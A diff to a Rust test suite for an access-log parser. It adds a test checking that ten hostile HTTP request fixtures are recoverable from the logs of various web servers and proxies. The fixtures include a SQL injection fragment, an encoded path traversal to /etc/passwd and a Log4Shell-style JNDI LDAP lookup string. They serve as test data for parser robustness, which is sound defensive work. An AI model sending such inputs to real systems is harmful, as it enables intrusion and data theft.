@@ -188,11 +188,87 @@ fn unparsed(text: &[u8]) -> (String, Vec<String>) {
 fn real_logs_parse_without_rest() {
     for path in files("logs", ".log.gz").into_iter().chain(files("requests", ".log.gz")) {
         let (format, rest) = unparsed(&bytes(&path));
-        println!(
-            "{}: {format}, {} unparsed: {:?}",
-            path.display(),
-            rest.len(),
-            &rest[..rest.len().min(5)]
-        );
+        assert!(rest.is_empty(), "{} ({format}): {rest:?}", path.display());
+    }
+}
+
+/// The ten hostile requests, each by what must come out of a line that holds it, un-escaped.
+const HOSTILE: [(&str, fn(&Event<'_>) -> bool); 10] = [
+    ("plain", |e| {
+        e.get(Field::Stem) == Some(b"/")
+            && e.get(Field::Query).is_none()
+            && e.get(Field::Method) == Some(b"GET")
+    }),
+    ("sqli", |e| has(e, Field::Target, b"UNION%20SELECT")),
+    ("quotes", |e| has(e, Field::Target, br#"x="quoted"&y=a\b"#)),
+    ("bytes", |e| has(e, Field::Target, b"/caf\xc3\xa9?n=\xff")),
+    ("card", |e| {
+        has(e, Field::Query, b"email=jane%40example.com") && has(e, Field::Method, b"POST")
+    }),
+    ("traversal", |e| has(e, Field::Target, b"/%2e%2e%2f%252e%252e%252fetc/passwd")),
+    ("tls", |e| e.get(Field::Method).is_none() && has(e, Field::Target, b"\x16\x03\x01")),
+    ("jndi", |e| has(e, Field::Target, b"${jndi:ldap://10.0.0.1/a}")),
+    ("propfind", |e| has(e, Field::Method, b"PROPFIND")),
+    ("absolute", |e| has(e, Field::Stem, b"/abs") && has(e, Field::Query, b"x=1")),
+];
+
+fn has(event: &Event<'_>, field: Field, part: &[u8]) -> bool {
+    event.get(field).is_some_and(|v| v.windows(part.len()).any(|w| w == part))
+}
+
+/// The access logs, the format text that one needs, and the requests that its server did not log
+/// or logged without what makes them hostile.
+const SERVERS: &[(&str, &str, &[&str])] = &[
+    ("apache_combined", "", &[]),
+    ("apache_combinedio", "", &[]),
+    ("apache_common", "", &[]),
+    // %U is decoded and normalised, and names the internal redirect of /; %m and %U of what is no
+    // request are dashes.
+    (
+        "apache_custom",
+        r#"LogFormat "%{%Y-%m-%dT%H:%M:%S}t.%{msec_frac}t%{%z}t %{X-Forwarded-For}i %a %V \"%m %U%q %H\" %>s %B %D \"%{Cookie}i\"" custom"#,
+        &["plain", "tls", "traversal"],
+    ),
+    ("apache_vhost_combined", "", &[]),
+    // HAProxy refused bytes and garbage (<BADREQ>) and rewrote nothing else; ten lines, nine whole.
+    ("haproxy_httplog_syslog", "", &["absolute", "bytes", "tls"]),
+    ("nginx_combined", "", &[]),
+    (
+        "nginx_escape_none",
+        r#"log_format raw escape=none '$remote_addr [$time_local] "$request" $status '
+                                      '"$http_user_agent" "$request_body"';"#,
+        &[],
+    ),
+    ("nginx_ingress_like", "", &[]),
+    // Squid strips queries and replaces refused requests.
+    ("squid_combined", "", &["absolute", "bytes", "card", "jndi", "quotes", "sqli", "tls"]),
+    ("squid_native", "", &["absolute", "bytes", "card", "jndi", "quotes", "sqli", "tls"]),
+    // Tomcat logs a refused request's target as a dash.
+    ("tomcat_combined", "", &["bytes", "jndi", "quotes", "tls"]),
+    ("tomcat_ext", "", &["bytes", "jndi", "quotes", "tls"]),
+    ("tomcat_localhost_access_log", "", &["bytes", "jndi", "quotes", "tls"]),
+    // Varnish logs garbage as "- http://localhost HTTP/1.0".
+    ("varnishncsa", "", &["tls"]),
+];
+
+#[test]
+fn every_hostile_request_comes_out_of_every_access_log() {
+    let Some(data) = data() else { return };
+    for (name, format, lost) in SERVERS {
+        let text = bytes(&data.join(format!("servers/{name}.log")));
+        let log_format = (!format.is_empty()).then(|| (*format).to_owned());
+        let guess = recognise(&text, &Options { log_format, ..Options::default() });
+        let mut parser = guess.format.parser();
+        let mut missing: Vec<&str> = HOSTILE.iter().map(|(request, _)| *request).collect();
+        for line in text.split(|b| *b == b'\n') {
+            let mut event = Event::default();
+            event.reset(line);
+            let parsed = parser.parse(line, &mut event);
+            assert_ne!(parsed, Parsed::Unparsed, "{name}: {}", String::from_utf8_lossy(line));
+            assert!(parsed == Parsed::Skip || event.time.is_some(), "{name}: no time");
+            missing.retain(|m| !HOSTILE.iter().any(|(request, test)| request == m && test(&event)));
+        }
+        missing.sort_unstable();
+        assert_eq!(&missing, lost, "{name} as {}", guess.format.name());
     }
 }
